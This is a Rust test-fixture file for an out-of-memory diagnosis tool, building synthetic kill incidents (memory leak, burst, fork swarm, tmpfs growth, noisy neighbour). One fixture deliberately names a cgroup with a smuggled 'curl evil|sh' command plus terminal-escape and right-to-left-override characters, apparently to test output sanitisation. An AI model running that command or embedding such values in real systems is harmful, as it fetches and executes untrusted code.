//! Kills with a history: what grew before them, and what follows from it.

use oomtrace::inside::advise;
use oomtrace::model::*;

use super::*;

/// A made-up course of memory: bytes at a time in ms.
type Course = dyn Fn(i64) -> u64;

fn entity(kind: EntityKind, pid: u32, comm: &str, path: &str, from: i64, course: &Course) -> Entity {
    let named = Some(comm).filter(|comm| !comm.is_empty());
    Entity {
        kind,
        pid: Some(pid).filter(|pid| *pid > 0),
        comm: named.map(Text::from),
        exe: named.map(|comm| Text::from(format!("/usr/bin/{comm}").as_str())),
        path: Some(path).filter(|path| !path.is_empty()).map(Text::from),
        in_scope: true,
        points: (from..=0).step_by(1000).map(|t| (t, course(t))).collect(),
        ..Entity::default()
    }
}

fn process(pid: u32, comm: &str, path: &str, course: &Course) -> Entity {
    entity(EntityKind::Process, pid, comm, path, -120_000, course)
}

fn cgroup(path: &str, limit: u64, course: &Course) -> Entity {
    let limit = Some(limit).filter(|limit| *limit > 0);
    Entity { limit_bytes: limit, ..entity(EntityKind::Cgroup, 0, "", path, -120_000, course) }
}

/// Grows by `per_second` from `since` on to `end` at the kill.
fn rising(end: u64, per_second: u64, since: i64) -> impl Fn(i64) -> u64 {
    move |t| end.saturating_sub(t.max(since).unsigned_abs() * per_second / 1000)
}

fn history(entities: Vec<Entity>) -> History {
    History {
        source: SampleSource::Iterators,
        interval_ms: 100,
        process_interval_ms: Some(1000),
        span_ms: 120_000,
        entities,
        ..History::default()
    }
}

fn culprit(of: &Entity, share: f64, growth: u64, rate: u64, since: i64) -> Culprit {
    let seconds = -since / 1000;
    Culprit {
        kind: if of.kind == EntityKind::Family { CulpritKind::Family } else { CulpritKind::Process },
        pid: of.pid,
        comm: of.comm.clone(),
        exe: of.exe.clone(),
        cgroup: of.path.clone(),
        members: of.members,
        share_of_growth: share,
        growth_bytes: growth,
        rate_bytes_per_s: u32::try_from(rate).ok().map(f64::from),
        rate_growth_bytes: Some(rate * since.unsigned_abs() / 1000),
        rate_ms: Some(since.unsigned_abs()),
        since: Some(format!(
            "2026-11-23T14:{:02}:{:02}.482913746Z",
            3 - (seconds + 48) / 60,
            (3611 - seconds) % 60
        )),
        since_ms: Some(since),
        bytes: of.points.last().map(|(_, bytes)| *bytes),
        ..Culprit::default()
    }
}

fn diagnosis(verdict: VerdictKind, reasons: &[&str], growth: u64, from: i64) -> Diagnosis {
    let bytes = i64::try_from(growth).unwrap();
    Diagnosis {
        verdict,
        confidence: Confidence::High,
        summary: "a sentence of the diagnosis".into(),
        reasons: reasons.iter().map(|reason| (*reason).to_owned()).collect(),
        window: Some(Window { kind: WindowKind::Marginal, from_ms: from, from: None, growth_bytes: bytes }),
        growth: vec![Growth { kind: PartKind::Anon, bytes }],
        ..Diagnosis::default()
    }
}

/// With the advice that follows.
fn with(mut incident: Incident, history: History, diagnosis: Diagnosis) -> Incident {
    incident.history = Some(history);
    let advice = advise(&incident, &diagnosis);
    incident.diagnosis = Some(Diagnosis { advice, ..diagnosis });
    incident
}

/// A JVM leaks slowly into its pod's limit; a sidecar's use stays as it is.
pub(crate) fn leak() -> Incident {
    let mut incident = cgroups::pod_limit();
    let path = incident.scope.memcg.as_ref().unwrap().level.path.lossy().into_owned();
    let leaf = incident.victims[0].cgroup.as_ref().unwrap().path.lossy().into_owned();
    let mut java = process(4711, "java", &leaf, &rising(380 * MIB, 1600 * KIB, -80_000));
    java.exe = Some("/opt/java/bin/java".into());
    let xmx = RuntimeSetting {
        name: "-Xmx".into(),
        value_bytes: Some(300 * MIB),
        value: None,
        from: "command_line".into(),
    };
    incident.victims[0].runtime =
        Some(Runtime { kind: RuntimeKind::Jvm, settings: vec![xmx], environment_read: true });
    java.runtime = incident.victims[0].runtime.clone();
    let mut found = diagnosis(
        VerdictKind::Leak,
        &[
            "it grew in each of 8 pieces of the window and gave nothing back: +125.0 MiB in 1 min 20 s",
            "the slope did not change: 1.6 MiB/s in the first half, 1.6 MiB/s in the second",
            "2 earlier runs ended in the same way, at 379.0 MiB and 381.0 MiB",
        ],
        130 * MIB,
        -80_000,
    );
    found.culprit =
        Some(Culprit { is_victim: true, ..culprit(&java, 0.958, 125 * MIB, 1600 * KIB, -80_000) });
    let envoy = process(4712, "envoy", &leaf, &rising(90 * MIB, 40 * KIB, -120_000));
    found.others = vec![culprit(&envoy, 0.024, 3200 * KIB, 40 * KIB, -80_000)];
    found.unattributed_bytes = Some(1900 * KIB);
    let scope = cgroup(&path, 512 * MIB, &rising(512 * MIB, 1640 * KIB, -80_000));
    let mut before = history(vec![scope, java, envoy]);
    before.earlier_lives = vec![Life {
        pid: None,
        comm: "java".into(),
        exe: Some("/opt/java/bin/java".into()),
        path: Some(Text::from(leaf.as_str())),
        started_ms: -900_000,
        exited_ms: -600_000,
        peak_bytes: 379 * MIB,
        oom_killed: true,
    }];
    with(incident, before, found)
}

/// A service that took all at once what its limit allows.
pub(crate) fn burst() -> Incident {
    let mut incident = cgroups::own_limit();
    let path = "/system.slice/shop.service";
    incident.victims[0].runtime =
        Some(Runtime { kind: RuntimeKind::Go, settings: Vec::new(), environment_read: true });
    let shop = process(4711, "shop", path, &|t| if t < -1000 { 9 * MIB } else { 62 * MIB });
    let mut found = diagnosis(
        VerdictKind::Burst,
        &["it took 53.0 MiB, 98 % of its growth, within 1.0 s of the 2 min that were sampled"],
        53 * MIB,
        -1000,
    );
    found.culprit = Some(Culprit { is_victim: true, ..culprit(&shop, 0.98, 53 * MIB, 53 * MIB, -1000) });
    found.growth.push(Growth { kind: PartKind::Kernel, bytes: 5 << 20 });
    let scope = cgroup(path, 64 * MIB, &|t| if t < -1000 { 11 * MIB } else { 64 * MIB });
    with(incident, history(vec![scope, shop]), found)
}

/// Another service below the same limit grew, in a cgroup whose name is meant to do harm; the database was killed for it.
pub(crate) fn neighbour() -> Incident {
    let mut incident = cgroups::adj_decided();
    let slice = "/system.slice";
    let evil = "/system.slice/x'; curl evil|sh #\u{1b}[2J\u{202e}.service";
    let level = incident.scope.memcg.as_mut().unwrap();
    level.level.path = slice.into();
    level.levels_above_victim = Some(1);
    let (adj, total) = (-900, GIB);
    incident.candidates = ranked(vec![
        candidate(812, "postgres", 400 * MIB, 0, 0, total),
        candidate(901, "rep\u{1b}[31mort\n", 520 * MIB, 0, adj, total),
    ]);
    incident.victims = vec![victim(&incident.candidates[0], "/system.slice/db.service", total)];
    let db = process(812, "postgres", "/system.slice/db.service", &|_| 400 * MIB);
    let grew = process(901, "rep\u{1b}[31mort\n", evil, &rising(520 * MIB, 4 * MIB, -60_000));
    let mut found = diagnosis(
        VerdictKind::Neighbour,
        &[
            "rep\u{1b}[31mort\n (pid 901) grew by 240.0 MiB, postgres (pid 812) by nothing",
            "oom_score_adj -900 spared it",
        ],
        250 * MIB,
        -60_000,
    );
    found.culprit = Some(culprit(&grew, 0.96, 240 * MIB, 4 * MIB, -60_000));
    found.unattributed_bytes = Some(10 * MIB);
    let scope = cgroup(slice, GIB, &rising(GIB, 4 * MIB + 170 * KIB, -60_000));
    with(incident, history(vec![scope, db, grew]), found)
}

/// A build with too many jobs.
pub(crate) fn fork_swarm() -> Incident {
    let mut incident = cgroups::group_of_20();
    let path = "/batch.slice/train.service";
    let course =
        |t: i64| if t < -20_000 { 200 * MIB } else { 2000 * MIB - (t.unsigned_abs() * 90 * MIB / 1000) };
    let mut family = entity(EntityKind::Family, 0, "cc1plus", path, -120_000, &course);
    family.members = Some(64);
    family.runtime =
        Some(Runtime { kind: RuntimeKind::Build, settings: Vec::new(), environment_read: false });
    let mut found = diagnosis(
        VerdictKind::ForkSwarm,
        &["64 processes of cc1plus, 60 of them younger than 21 s, grew by 1.8 GiB; none by more than 2 %"],
        1800 * MIB,
        -20_000,
    );
    found.culprit =
        Some(Culprit { is_victim: true, ..culprit(&family, 0.99, 1800 * MIB, 90 * MIB, -20_000) });
    incident.victims.truncate(1);
    incident.victims[0].comm = "cc1plus".into();
    let scope = cgroup(path, 2 * GIB, &move |t| course(t) + 48 * MIB);
    with(incident, history(vec![scope, family]), found)
}

/// Files in a tmpfs: nobody's resident memory.
pub(crate) fn shmem() -> Incident {
    let mut incident = cgroups::own_limit();
    let path = "/system.slice/shop.service";
    let growth = 40 * MIB;
    let mut found = diagnosis(
        VerdictKind::Shmem,
        &["40.0 MiB of the growth of 41.0 MiB are tmpfs and shared memory, 1.0 MiB are in processes"],
        41 * MIB,
        -40_000,
    );
    found.growth = vec![
        Growth { kind: PartKind::Shmem, bytes: 40 << 20 },
        Growth { kind: PartKind::Anon, bytes: 1 << 20 },
    ];
    found.culprit = Some(Culprit {
        kind: CulpritKind::Shmem,
        share_of_growth: 0.976,
        growth_bytes: growth,
        rate_bytes_per_s: Some(1_048_576.0),
        rate_growth_bytes: Some(40 << 20),
        rate_ms: Some(40_000),
        since: Some("2026-11-23T14:02:31.482913746Z".into()),
        since_ms: Some(-40_000),
        bytes: Some(48 * MIB),
        likely: false,
        ..Culprit::default()
    });
    found.unattributed_bytes = Some(40 * MIB);
    incident.scope.stats = Some(MemcgStats { shmem_bytes: Some(48 * MIB), ..MemcgStats::default() });
    let scope = cgroup(path, 64 * MIB, &rising(64 * MIB, MIB, -40_000));
    with(incident, history(vec![scope]), found)
}

/// Nothing limited the one that filled the machine.
pub(crate) fn no_limit() -> Incident {
    let mut incident = machines::global_with_swap();
    let victim = incident.victims[0].clone();
    let held = victim.memory.anon_bytes.unwrap();
    let path = victim.cgroup.as_ref().unwrap().path.lossy().into_owned();
    let comm = victim.comm.lossy().into_owned();
    let grew = process(victim.pid, &comm, &path, &rising(held, held / 200, -100_000));
    incident.victims[0].runtime =
        Some(Runtime { kind: RuntimeKind::Redis, settings: Vec::new(), environment_read: true });
    let mut found = diagnosis(
        VerdictKind::NoLimit,
        &["no cgroup above it has a limit", "it holds more than a third of the machine"],
        held / 2,
        -100_000,
    );
    found.culprit = Some(Culprit { is_victim: true, ..culprit(&grew, 0.93, held / 2, held / 200, -100_000) });
    let whole = held * 2;
    let system = Entity {
        limit_bytes: Some(whole),
        ..entity(EntityKind::System, 0, "", "", -120_000, &rising(whole / 16 * 15, held / 190, -100_000))
    };
    with(incident, history(vec![system, grew]), found)
}

/// Watched for too short a time.
pub(crate) fn undetermined() -> Incident {
    let incident = cgroups::own_limit();
    let short = History { span_ms: 800, interval_ms: 200, entities: Vec::new(), ..history(Vec::new()) };
    let found = Diagnosis {
        summary: "who ate the memory can't be told: 4 samples over 800 ms are too few".into(),
        reasons: vec!["4 samples over 800 ms are too few".into()],
        ..Diagnosis::default()
    };
    with(incident, short, found)
}
